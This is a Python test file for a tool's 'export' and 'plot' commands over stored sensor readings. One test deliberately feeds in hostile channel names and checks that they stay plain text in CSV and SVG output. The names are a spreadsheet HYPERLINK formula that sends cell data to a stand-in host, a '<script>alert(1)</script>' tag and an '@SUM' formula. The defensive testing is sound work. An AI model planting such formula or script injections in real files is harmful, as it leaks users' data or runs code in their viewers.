"""`edgectl export` and `edgectl plot` over a database the real collector code wrote and over a
replay's collector output: names, units, categories and scaled values, the selection options,
hostile strings, `| head`, and every bad argument as one line `edgectl: ...` with exit 2
(docs/DASHBOARD.md 5)."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import stat
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET

import pytest

from host_tools import cli
from host_tools.agent.replay import golden_doc
from tests.dashboard_rig import META, batch, collector, fill

EDGECTL = [sys.executable, "-m", "host_tools"]
CLOCK = {"synced": True, "boot": 4, "sync_ticks": 10_000, "sync_wall_ms": 1_700_000_100_000}


def _run(*args: str) -> subprocess.CompletedProcess:
    """`edgectl ARGS` in this process (a new interpreter per call costs seconds under load);
    tests/test_dashboard.py and the pipe test below run the command in its own process."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(list(args))
    return subprocess.CompletedProcess(args, code, out.getvalue(), err.getvalue())


def _one_line_error(p: subprocess.CompletedProcess, *words: str) -> None:
    assert p.returncode == 2, (p.returncode, p.stdout[:300], p.stderr)
    lines = p.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("edgectl: "), p.stderr
    for w in words:
        assert w in lines[0], (w, lines[0])


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    """fridge-7 as tests/dashboard_rig.py fills it, plus readings stamped before a clock sync:
    two of a boot the status's clock maps, one of an earlier boot nothing maps."""
    path = str(tmp_path_factory.mktemp("export") / "c.sqlite")
    info = fill(path)
    col = collector(path, client_id="boot")
    try:
        top = info["last_seq"]
        status = {"state": "online", "clock": CLOCK}
        col.feed("edge/fridge-7/status", json.dumps(status).encode())
        rows = [(top + 1, 12_000, 1, 2000), (top + 2, 13_000, 1, 2001)]
        col.feed("edge/fridge-7/t/essential", batch("fridge-7", "essential", rows, boot=4))
        col.feed(
            "edge/fridge-7/t/essential",
            batch("fridge-7", "essential", [(top + 3, 5_000, 1, 1999)], boot=3),
        )
    finally:
        col.stop()
    return path, info


def test_csv_has_names_units_scaled_values_and_wall_clock_time(db):
    path, info = db
    p = _run("export", "--db", path)
    assert p.returncode == 0, p.stderr
    rows = list(csv.DictReader(io.StringIO(p.stdout)))
    n, t0, top = info["n"], info["t0"], info["last_seq"]
    # usage (channel 2) was erased by the revocation: channels 1 and 3 and the boot rows
    assert len(rows) == 2 * n + 3
    first = rows[0]
    assert first == {
        "device": "fridge-7", "seq": "1", "time": "2023-11-14T22:13:20.000Z",
        "time_ms": str(t0), "boot": "", "ts": str(t0), "category": "essential",
        "channel": "1", "name": "cabinet_temp", "unit": "°C", "value": "21.50", "raw": "2150",
    }  # fmt: skip
    power = [r for r in rows if r["name"] == "power"]
    assert [r["value"] for r in power[:3]] == ["120.0", "120.1", "120.2"]
    assert {r["unit"] for r in power} == {"W"} and {r["category"] for r in power} == {
        "diagnostics"
    }
    boot = {int(r["seq"]): r for r in rows if r["boot"]}
    # ts 12,000 ms after boot 4, synced at tick 10,000 = wall 1,700,000,100,000
    assert boot[top + 1]["time_ms"] == "1700000102000" and boot[top + 1]["value"] == "20.00"
    assert boot[top + 1]["time"] == "2023-11-14T22:15:02.000Z"
    assert boot[top + 3]["time"] == "" and boot[top + 3]["ts"] == "5000"  # boot 3: unmapped
    assert [int(r["seq"]) for r in rows] == sorted(int(r["seq"]) for r in rows)


def test_jsonl_and_parquet_carry_the_same_rows(db, tmp_path):
    path, _ = db
    p = _run("export", "--db", path, "--format", "jsonl")
    assert p.returncode == 0, p.stderr
    lines = [json.loads(x) for x in p.stdout.splitlines()]
    assert lines[0]["value"] == 21.5 and lines[0]["name"] == "cabinet_temp"
    out = tmp_path / "r.parquet"
    p = _run("export", "--db", path, "--format", "parquet", "--out", str(out))
    assert p.returncode == 0 and f"{len(lines)} readings" in p.stderr, p.stderr
    import pyarrow.parquet as pq

    table = pq.read_table(str(out)).to_pylist()
    assert len(table) == len(lines)
    for a, b in zip(table, lines, strict=True):
        t = a.pop("time")
        assert (int(t.timestamp() * 1000) if t else None) == b.pop("time_ms")
        a.pop("time_ms")
        b.pop("time")
        assert a == b
    assert not [f for f in os.listdir(tmp_path) if "partial" in f]


def test_selection_by_channel_category_and_time(db):
    path, info = db
    t0 = info["t0"]

    def seqs(*args: str) -> list[int]:
        p = _run("export", "--db", path, "--format", "jsonl", *args)
        assert p.returncode == 0, p.stderr
        return [json.loads(x)["seq"] for x in p.stdout.splitlines()]

    by_name = seqs("--channel", "power")
    assert by_name == seqs("--channel", "3") == seqs("--category", "diagnostics")
    assert len(by_name) == info["n"]
    since = "2023-11-14T22:13:25Z"  # t0 + 5 s
    got = seqs("--channel", "cabinet_temp", "--since", since, "--until", str(t0 + 8000))
    assert got == [6, 7, 8]
    # a time range leaves out what has no wall-clock time
    assert info["last_seq"] + 3 not in seqs("--since", "2000-01-01")


def test_export_to_a_closed_pipe_stops_quietly(tmp_path):
    path = str(tmp_path / "big.sqlite")
    col = collector(path)
    col.feed("edge/big-1/meta", json.dumps(META).encode())
    for k in range(40):  # 4,000 readings: far more than a pipe buffer of CSV
        rows = [(k * 100 + i + 1, 1_700_000_000_000 + k * 100 + i, 1, i) for i in range(100)]
        col.feed("edge/big-1/t/essential", batch("big-1", "essential", rows))
    col.stop()
    p = subprocess.Popen(
        EDGECTL + ["export", "--db", path], stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    assert p.stdout is not None and p.stderr is not None
    assert p.stdout.readline().startswith(b"device,seq,time")
    p.stdout.close()  # `| head -1`
    assert p.wait(30) == 0
    assert p.stderr.read() == b""


def test_hostile_names_stay_data(tmp_path):
    path = str(tmp_path / "evil.sqlite")
    col = collector(path)
    meta = {"format": 1, "form": "full", "channels": [
        [1, '=HYPERLINK("http://x.example/?"&A1,"open")', "essential", "$\\frac{", 0],
        [2, "<script>alert(1)</script> & $x$", "essential", "@SUM(1)", 1],
    ]}  # fmt: skip
    col.feed("edge/evil-2/meta", json.dumps(meta).encode())
    rows = [(s, 1_700_000_000_000 + s * 1000, 1 + s % 2, s) for s in range(1, 21)]
    col.feed("edge/evil-2/t/essential", batch("evil-2", "essential", rows))
    col.stop()
    p = _run("export", "--db", path)
    assert p.returncode == 0, p.stderr
    got = {r["channel"]: r for r in csv.DictReader(io.StringIO(p.stdout))}
    # a spreadsheet shows these as text, not as formulas
    assert got["1"]["name"] == "'" + meta["channels"][0][1]
    assert got["2"]["unit"] == "'@SUM(1)"
    j = json.loads(_run("export", "--db", path, "--format", "jsonl").stdout.splitlines()[0])
    assert j["name"] in (meta["channels"][0][1], meta["channels"][1][1])  # JSON: as sent
    # the plot: unbalanced and balanced $ do not turn into (broken) math, markup is escaped
    svg = tmp_path / "evil.svg"
    p = _run("plot", "--db", path, "--out", str(svg))
    assert p.returncode == 0, p.stderr
    root = ET.parse(str(svg)).getroot()
    texts = ["".join(t.itertext()) for t in root.iter("{http://www.w3.org/2000/svg}text")]
    assert any("<script>alert(1)</script> & $x$" in t for t in texts), texts
    assert not list(root.iter("{http://www.w3.org/2000/svg}script"))


def test_plot_png_and_svg_with_names_and_units(db, tmp_path):
    path, info = db
    png = tmp_path / "all.png"
    p = _run("plot", "--db", path, "--out", str(png))
    assert p.returncode == 0, p.stderr
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png.stat().st_size > 10_000
    assert "2 panels" in p.stderr and "1 readings without wall-clock time" in p.stderr
    svg = tmp_path / "one.svg"
    p = _run("plot", "--db", path, "--channel", "power", "--out", str(svg))
    assert p.returncode == 0, p.stderr
    root = ET.parse(str(svg)).getroot()
    texts = ["".join(t.itertext()) for t in root.iter("{http://www.w3.org/2000/svg}text")]
    assert "power (W)" in texts and "cabinet_temp (°C)" not in texts, texts
    assert f"{info['n']} readings in 1 panels" in p.stderr
    # the same data gives the same file
    again = tmp_path / "again.svg"
    _run("plot", "--db", path, "--channel", "power", "--out", str(again))
    assert again.read_bytes() == svg.read_bytes()


def test_plot_and_export_a_replay_output(tmp_path):
    """A replay's --collector-out (written by the replay's own golden_doc) with the device
    config it ran with: names, units and decimals from the config's channels."""
    out = tmp_path / "replay.json"
    readings = [
        [s, 946_684_800_000 + s * 500, "essential", 1 + s % 2, 50 + s] for s in range(1, 41)
    ]
    out.write_text(json.dumps(golden_doc("fridge-replay", readings)))
    cfg = os.path.join(os.path.dirname(__file__), "..", "samples", "fridge-line.agent.json")
    p = _run("export", "--replay", str(out), "--config", cfg)
    assert p.returncode == 0, p.stderr
    rows = list(csv.DictReader(io.StringIO(p.stdout)))
    assert len(rows) == 40
    assert (rows[0]["name"], rows[0]["unit"], rows[0]["value"]) == ("freezer_temp", "°C", "5.1")
    png = tmp_path / "replay.png"
    p = _run("plot", "--replay", str(out), "--config", cfg, "--out", str(png))
    assert p.returncode == 0 and "40 readings in 2 panels" in p.stderr, p.stderr


def test_bad_arguments_are_one_line_errors(db, tmp_path):
    path, _ = db
    _one_line_error(_run("export", "--db", str(tmp_path / "none.sqlite")), "No such file")
    _one_line_error(_run("export", "--db", path, "--device", "nobody"), "--device nobody")
    _one_line_error(_run("export", "--db", path, "--channel", "nothing"), "--channel nothing")
    _one_line_error(_run("export", "--db", path, "--since", "yesterday"), "--since")
    _one_line_error(_run("export", "--db", path, "--since", "2024-01-02", "--until", "2024-01-01"),
                    "--until")  # fmt: skip
    _one_line_error(_run("export", "--db", path, "--format", "parquet"), "--out")
    _one_line_error(_run("export", "--db", path, "--out", str(tmp_path / "no" / "x.csv")), "--out")
    _one_line_error(_run("export", "--db", path, "--out", str(tmp_path)), "directory")
    _one_line_error(_run("export", "--db", path, "--replay", path), "one source")
    _one_line_error(_run("export", "--db", path, "--config", path), "--config")
    _one_line_error(_run("export", "--replay", path), "--replay", "not JSON")
    (tmp_path / "list.json").write_text("[1, 2]")
    _one_line_error(_run("export", "--replay", str(tmp_path / "list.json")), "collector output")
    _one_line_error(_run("plot", "--db", path, "--out", str(tmp_path / "x.gif")), ".png or .svg")
    _one_line_error(
        _run("plot", "--db", path, "--since", "2030-01-01", "--out", str(tmp_path / "x.png")),
        "no readings match",
    )
    assert not os.path.exists(tmp_path / "x.png")
    _one_line_error(_run("export", "--db", path, "--since", ""), "--since")
    _one_line_error(_run("export", "--db", ""), "--db")


def test_out_never_replaces_what_is_not_a_regular_file(db, tmp_path):
    """--out /dev/full once replaced the device node with a regular file (written beside it
    and renamed over it). Now a device or a FIFO is written in place and stays what it is,
    and a symbolic link is followed, not replaced."""
    path, _ = db
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    p = _run("export", "--db", path, "--format", "jsonl", "--out", str(fifo))
    reader.join(10)
    assert p.returncode == 0, p.stderr
    assert stat.S_ISFIFO(os.stat(fifo).st_mode) and got and got[0].count(b"\n") > 60
    assert os.listdir(tmp_path) == ["pipe"]
    target = tmp_path / "real.csv"
    target.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert _run("export", "--db", path, "--out", str(link)).returncode == 0
    assert link.is_symlink() and target.read_text().startswith("device,seq,time")
